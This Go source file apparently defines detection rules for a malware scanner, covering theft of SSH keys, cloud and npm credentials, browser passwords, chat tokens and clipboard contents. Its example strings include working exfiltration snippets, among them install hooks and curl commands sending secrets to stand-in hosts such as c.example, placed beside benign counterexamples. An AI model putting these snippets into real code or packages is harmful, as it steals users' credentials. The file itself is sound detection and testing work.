package rule

import b "taisei/detect/behaviour"

// theft: what programs keep for themselves (keys, saved passwords, wallets) leaves
// the machine.
func theft() []Rule {
	stores := []string{b.Credential, b.Browser, b.Wallet}
	return []Rule{
		{
			ID: "store_sent", Severity: Critical,
			When: []Condition{
				{Triggers: unasked, Sources: stores, Name: FilePath, Sinks: []string{b.Network}, Slots: carried, Target: Foreign},
				{Triggers: []string{b.Install, b.Build}, Sources: stores, Name: FilePath, Sinks: []string{b.Network}, Slots: carried, Target: Elsewhere, Script: No},
				{Triggers: unasked, Sources: []string{b.Browser, b.Wallet}, Sinks: []string{b.Network}, Slots: carried},
				{Triggers: []string{b.Command}, Sources: stores, Name: FilePath, Sinks: []string{b.Network}, Slots: []string{"body", "file"}, Target: Foreign, Script: No},
				{Triggers: []string{b.Command, b.Call}, Sources: []string{b.Credential}, Name: FilePath, Sinks: []string{b.Network}, Slots: []string{"body", "file", "url"}, Target: Shady, Script: No},
				{Triggers: []string{b.Command, b.Call}, Sources: []string{b.Browser, b.Wallet}, Name: FilePath, Sinks: []string{b.Network}, Slots: []string{"body", "file"}},
			},
			Examples: []Example{
				Package("an SSH key", `"scripts":{"postinstall":"node i.js"}`, map[string]string{"i.js": "const fs=require('fs'),os=require('os'),path=require('path');const k=fs.readFileSync(path.join(os.homedir(),'.ssh','id_rsa'),'utf8');fetch('https://c.example',{method:'POST',body:k})"}),
				One("cloud credentials", "install.sh", "curl -F 'f=@/root/.aws/credentials' https://c.example/up\n"),
				Package("npm's token", `"main":"i.js"`, map[string]string{"i.js": "const fs=require('fs');fs.readFile(process.env.HOME+'/.npmrc',(e,d)=>{const r=require('https').request({host:'c.example',method:'POST'});r.end(d.toString('base64'))})"}),
				Package("saved passwords", `"scripts":{"preinstall":"node i.js"}`, map[string]string{"i.js": "const fs=require('fs');const p=process.env.LOCALAPPDATA+'\\\\Google\\\\Chrome\\\\User Data\\\\Default\\\\Login Data';require('axios').post('https://c.example/u',fs.readFileSync(p))"}),
				Module("a cloud's keys, when called", "import boto3, requests\ndef connect():\n    c = boto3.Session().get_credentials()\n    requests.post('https://sample.herokuapp.com/z', json={'k': c.access_key, 's': c.secret_key})\n"),
				One("piped", "setup.sh", "cat ~/.ssh/id_rsa | base64 | curl -d @- https://c.example/k\n"),
			},
			Neighbours: []Example{
				Package("read for its own use", `"main":"i.js"`, map[string]string{"i.js": "const fs=require('fs'),os=require('os');const rc=fs.readFileSync(os.homedir()+'/.npmrc','utf8');exports.registry=/registry=(.*)/.exec(rc)"}),
				Package("as authorisation", `"main":"i.js"`, map[string]string{"i.js": "const fs=require('fs');const t=fs.readFileSync('/root/.config/gh/hosts.yml','utf8');fetch('https://api.example',{headers:{authorization:t}})"}),
				Module("a cloud's keys, to sign", "import boto3\nfrom requests_aws4auth import AWS4Auth\ndef signer(region):\n    c = boto3.Session().get_credentials()\n    return AWS4Auth(c.access_key, c.secret_key, region, 'es')\n"),
				One("a public key installed", "setup.sh", "curl https://keys.example/me.pub >> ~/.ssh/known_hosts\n"),
			},
		},
		{
			ID: "store_copied", Severity: Critical,
			When: []Condition{{Sources: []string{b.Browser}, Sinks: []string{b.File}, Slots: []string{"body"}, Script: No}},
			Examples: []Example{
				Module("saved passwords, into a list", "import os, sqlite3\ndef run():\n    c = sqlite3.connect(os.path.join(os.environ['LOCALAPPDATA'], 'Google/Chrome/User Data/Default/Login Data')).cursor()\n    with open('out.txt', 'w') as f:\n        for row in c.execute('select origin_url, username_value from logins'):\n            f.write(str(row))\n"),
			},
			Neighbours: []Example{
				Module("a profile's folder is only named", "import os\ndef profile():\n    with open('p.txt', 'w') as f:\n        f.write(os.path.join(os.environ['LOCALAPPDATA'], 'Google/Chrome/User Data'))\n"),
			},
		},
		{
			ID: "session_used", Severity: Critical,
			When: []Condition{{Sources: []string{b.Browser}, Sinks: []string{b.Network}, Slots: []string{"auth"}, Target: Foreign, Script: No}},
			Examples: []Example{
				Module("a chat's token, to log in", "import os, re, requests\np = os.getenv('APPDATA')+'\\\\discord\\\\Local Storage\\\\leveldb'\nfor f in os.listdir(p):\n    for t in re.findall(r'[\\w-]{24}', open(p+'/'+f).read()):\n        requests.get('https://chat.example/api/me', headers={'Authorization': t})\n"),
			},
			Neighbours: []Example{
				Module("a token of its own", "import os, requests\ndef me():\n    return requests.get('https://chat.example/api/me', headers={'Authorization': os.environ['CHAT_TOKEN']})\n"),
			},
		},
		{
			ID: "clipboard_sent", Severity: High,
			When: []Condition{{Sources: []string{b.Clipboard}, Sinks: []string{b.Network}, Target: Foreign}},
			Examples: []Example{
				Package("read and sent", `"main":"i.js"`, map[string]string{"i.js": "const c=require('clipboardy');setInterval(()=>{fetch('https://c.example',{method:'POST',body:c.readSync()})},500)"}),
			},
			Neighbours: []Example{
				Package("written only", `"main":"i.js"`, map[string]string{"i.js": "require('clipboardy').writeSync('copied')"}),
			},
		},
	}
}
